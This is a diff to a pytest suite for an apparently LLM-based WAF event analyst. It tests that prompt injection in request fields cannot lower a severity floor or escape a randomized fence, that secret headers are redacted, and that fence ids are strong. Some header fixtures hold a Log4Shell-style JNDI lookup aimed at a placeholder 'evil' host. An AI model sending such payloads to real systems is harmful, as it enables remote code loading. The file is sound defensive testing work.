@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import json
 import re
+import string
 import unicodedata
 from datetime import UTC, datetime
 from typing import Any
@@ -18,12 +19,15 @@ import pytest
 from agent_runtime.analyst import SecurityAnalyst
 from agent_runtime.prompt_safety import (
     FENCE_CLOSE,
+    FENCE_ID_BITS,
+    FENCE_ID_CHARS,
     FENCE_NAME,
     FENCE_OPEN,
     SYSTEM_PROMPT,
     build_analysis_prompt,
+    build_pattern_prompt,
 )
-from secops_core.contract import Analysis, Header, RuleMatch, SeverityFloorInfo, WafEvent
+from secops_core.contract import Analysis, Header, Pattern, RuleMatch, SeverityFloorInfo, WafEvent
 from secops_core.ingest.normalize import normalize_event
 from secops_core.limits import (
     PROMPT_ARGS_CHARS,
@@ -96,7 +100,7 @@ OBEYING_ANSWER = {
 
 _FENCED = re.compile(
     re.escape(FENCE_OPEN)
-    + r" id=(?P<id>[0-9a-f]{16})>>>\n(?P<data>.*)\n"
+    + r" id=(?P<id>[a-z]{14})>>>\n(?P<data>.*)\n"
     + re.escape(FENCE_CLOSE)
     + r" id=(?P=id)>>>",
     re.DOTALL,
@@ -145,6 +149,14 @@ def unsafe_chars(text: str, allowed: str = "") -> list[str]:
             or 0xE0100 <= ord(ch) <= 0xE01EF
         )
     ]
+
+
+def header_pairs(document: dict[str, Any]) -> list[tuple[str, str]]:
+    """The fenced document's headers as (name, value) pairs, a repeated name's values in order."""
+    pairs: list[tuple[str, str]] = []
+    for name, value in document.get("headers", {}).items():
+        pairs.extend((name, item) for item in (value if isinstance(value, list) else [value]))
+    return pairs
 
 
 def fenced_document(prompt: str) -> dict[str, Any]:
@@ -200,12 +212,13 @@ def test_injection_cannot_lower_the_floor_or_escape_the_fence(name: str, field: 
     assert len(document["args"]) <= PROMPT_ARGS_CHARS
     assert len(document["user_agent"]) <= PROMPT_USER_AGENT_CHARS
     assert len(document["host"]) <= PROMPT_HEADER_VALUE_CHARS
-    assert len(document["headers"]) <= PROMPT_MAX_HEADERS
-    for header in document["headers"]:
-        assert len(header["value"]) <= PROMPT_HEADER_VALUE_CHARS
-        assert len(header["name"]) <= 64
-    for header in document["headers"][:3]:
-        assert header["value"] == "[REDACTED]"
+    headers = header_pairs(document)
+    assert len(headers) <= PROMPT_MAX_HEADERS
+    for name, value in headers:
+        assert len(value) <= PROMPT_HEADER_VALUE_CHARS
+        assert len(name) <= 64
+    for _, value in headers[:3]:
+        assert value == "[REDACTED]"
     assert len(prompt) < 12_000
 
     # AND what operators see is sanitized and capped too
@@ -251,6 +264,37 @@ def test_the_fence_id_is_random_per_call() -> None:
     assert first.group("id") != second.group("id")
 
 
+def test_the_fence_id_keeps_at_least_64_bits() -> None:
+    # GIVEN many prompts, for the analyst and for the narrator
+    event = make_event("uri", "/x")
+    pattern = Pattern(
+        pattern_key="198.51.100.7#/search",
+        source_ip="198.51.100.7",
+        normalized_uri="/search",
+        count=12,
+        first_seen=datetime(2025, 3, 1, 12, 0, tzinfo=UTC),
+        last_seen=datetime(2025, 3, 1, 12, 5, tzinfo=UTC),
+        rules=("SQLi_QUERYARGUMENTS",),
+        event_keys=("evt#1",),
+        max_severity=4,
+        threshold=10,
+        threshold_met=True,
+        narrative="",
+    )
+    prompts = [build_analysis_prompt(event, FLOOR) for _ in range(150)]
+    prompts += [build_pattern_prompt(pattern) for _ in range(50)]
+
+    # WHEN their fence ids are read
+    ids = [match.group("id") for prompt in prompts if (match := _FENCED.search(prompt))]
+
+    # THEN 14 letters a-z carry more than the 64 bits of the 16 hex digits they replaced
+    assert FENCE_ID_BITS >= 64
+    assert len(ids) == len(set(ids)) == 200
+    assert all(len(fence_id) == FENCE_ID_CHARS for fence_id in ids)
+    # AND the letters are drawn from the whole alphabet
+    assert set("".join(ids)) == set(string.ascii_lowercase)
+
+
 def test_the_prompt_states_the_floor_outside_the_fence() -> None:
     prompt = build_analysis_prompt(make_event("uri", "/x"), FLOOR)
 
@@ -276,11 +320,31 @@ def test_a_disguised_secret_header_name_is_still_redacted() -> None:
 
     for hidden in ("HIDDEN-1", "HIDDEN-2", "HIDDEN-3"):
         assert hidden not in prompt
-    assert [h["name"] for h in fenced_document(prompt)["headers"]] == [
-        "Cookie",
-        "X-API-KEY",
-        "x-my-session-id",
-    ]
+    assert fenced_document(prompt)["headers"] == {
+        "Cookie": "[REDACTED]",
+        "X-API-KEY": "[REDACTED]",
+        "x-my-session-id": "[REDACTED]",
+    }
+
+
+def test_a_repeated_header_name_keeps_every_value_in_order() -> None:
+    event = make_event("uri", "/x").model_copy(
+        update={
+            "headers": (
+                Header(name="X-Forwarded-For", value="198.51.100.7"),
+                Header(name="X-Note", value="a"),
+                Header(name="X-Forwarded-For", value="10.0.0.1"),
+                Header(name="X-Forwarded-For", value="${jndi:ldap://evil/a}"),
+            )
+        }
+    )
+
+    document = fenced_document(build_analysis_prompt(event, FLOOR))
+
+    assert document["headers"] == {
+        "X-Forwarded-For": ["198.51.100.7", "10.0.0.1", "${jndi:ldap://evil/a}"],
+        "X-Note": "a",
+    }
 
 
 def test_secret_query_parameters_are_redacted_again() -> None:
@@ -300,10 +364,11 @@ def test_a_header_flood_is_cut_and_counted() -> None:
 
     document = fenced_document(build_analysis_prompt(event, FLOOR))
 
-    assert len(document["headers"]) == PROMPT_MAX_HEADERS
+    headers = header_pairs(document)
+    assert len(headers) == PROMPT_MAX_HEADERS
     assert document["omitted_counts"] == {"headers": 150 - PROMPT_MAX_HEADERS}
-    assert all(len(h["value"]) == PROMPT_HEADER_VALUE_CHARS for h in document["headers"])
-    assert all(h["value"].endswith(TRUNCATION_SUFFIX) for h in document["headers"])
+    assert all(len(value) == PROMPT_HEADER_VALUE_CHARS for _, value in headers)
+    assert all(value.endswith(TRUNCATION_SUFFIX) for _, value in headers)
 
 
 def test_rule_names_and_labels_are_quoted_and_capped() -> None:
@@ -444,7 +509,10 @@ def test_the_document_leaves_out_what_says_nothing_or_says_it_twice() -> None:
     document = fenced_document(prompt)
 
     # THEN duplicates of fields and plain negotiation headers are gone, a payload is kept
-    assert [h["name"] for h in document["headers"]] == ["Accept-Language", "X-Forwarded-For"]
+    assert document["headers"] == {
+        "Accept-Language": "${jndi:ldap://evil/a}",
+        "X-Forwarded-For": "198.51.100.7",
+    }
     # AND only labels that say something new remain
     assert document["labels"] == ["awswaf:managed:aws:bot-control:signal:non_browser_user_agent"]
     # AND the web ACL is its name, matched rules carry no defaults, the JSON is compact
